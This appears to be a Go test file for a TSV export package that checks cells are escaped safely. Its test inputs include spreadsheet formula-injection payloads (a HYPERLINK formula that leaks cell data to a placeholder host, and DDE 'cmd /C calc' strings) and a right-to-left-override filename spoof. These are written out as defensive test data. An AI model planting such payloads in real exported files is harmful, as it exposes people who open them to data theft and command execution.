package tsv_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/millfleet/mill/pkg/tsv"
)

func TestCellNeutralisesFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://x.invalid/?"&A1,"click")`, `'=HYPERLINK("http://x.invalid/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1", `'\t=1`},
		{"\r=1", `'\r=1`},
		{"'quoted", "''quoted"},
		{"a=1", "a=1"}, // only the first character counts
		{"photos/=x", "photos/=x"},
		{"", ""},
		{"plain text", "plain text"},
		{"md5:0cc175b9c0f1b6a831c399e269772661", "md5:0cc175b9c0f1b6a831c399e269772661"},
	} {
		if got := tsv.Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCellEscapesSeparatorsBidiAndControls(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"a\tb\nc\rd\\e", `a\tb\nc\rd\\e`},
		{"line\u2028sep\u2029par", `line\u2028sep\u2029par`},
		{"invoice\u202egnp.exe", `invoice\u202egnp.exe`},
		{"\u202a\u202b\u202c\u202d\u202e", `\u202a\u202b\u202c\u202d\u202e`},
		{"\u2066\u2067\u2068\u2069", `\u2066\u2067\u2068\u2069`},
		{"\u200e\u200f\u061c", `\u200e\u200f\u061c`},
		{"esc\x1b[31mred\x00\x7f\u0085", `esc\u001b[31mred\u0000\u007f\u0085`},
		{"bad\xffutf8", `bad\xffutf8`},
		{"café ☕ 日本", "café ☕ 日本"}, // other text as it is
		{"\u200d", "\u200d"},       // a joiner is not a bidi control
	} {
		got := tsv.Cell(tc.in)
		if got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if strings.ContainsAny(got, "\t\n\r\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c") {
			t.Errorf("Cell(%q) = %q keeps a separator or bidi character", tc.in, got)
		}
	}
}

func TestRoundTrip(t *testing.T) {
	fields := []string{"2026-05-01T04:00:00Z", "=cmd", "+", "-", "@", "'", "''x", "\t", "\r\n", `\`, `\u202e`, `\x41`, `\q`, "\u202e",
		"\u2028", "\xff\xfe", "x\\", "a'b", "", "日本"}
	line := tsv.Line(fields...)
	if strings.Count(line, "\n") != 1 || !strings.HasSuffix(line, "\n") || strings.Count(line, "\t") != len(fields)-1 {
		t.Fatalf("Line = %q", line)
	}
	got := tsv.Split(strings.TrimSuffix(line, "\n"))
	if strings.Join(got, "|") != strings.Join(fields, "|") || len(got) != len(fields) {
		t.Fatalf("Split(Line(%q)) = %q", fields, got)
	}
}

// TestOldCellsReadTheSame: the escapes of the reports written before
// (\\, \t, \n, \r only) read as they did.
func TestOldCellsReadTheSame(t *testing.T) {
	old := strings.NewReplacer(`\`, `\\`, "\t", `\t`, "\n", `\n`, "\r", `\r`)
	for _, s := range []string{`a\b`, "x\ty", `\u202e`, `\x41`, "n\nr\r", "d\\"} {
		if got := tsv.Unescape(old.Replace(s)); got != s {
			t.Errorf("Unescape(%q) = %q, want %q", old.Replace(s), got, s)
		}
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "'", `\u202e`, "\u202e", "\xff", "a\tb", `\`, `\x4`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := tsv.Cell(s)
		if got := tsv.Unescape(c); got != s {
			t.Fatalf("Unescape(Cell(%q)) = %q", s, got)
		}
		if strings.ContainsAny(c, "\t\n\r\u2028\u2029\u202e\u2066") || !utf8.ValidString(c) {
			t.Fatalf("Cell(%q) = %q", s, c)
		}
		if c != "" && strings.IndexByte("=+-@", c[0]) >= 0 {
			t.Fatalf("Cell(%q) = %q starts a formula", s, c)
		}
	})
}
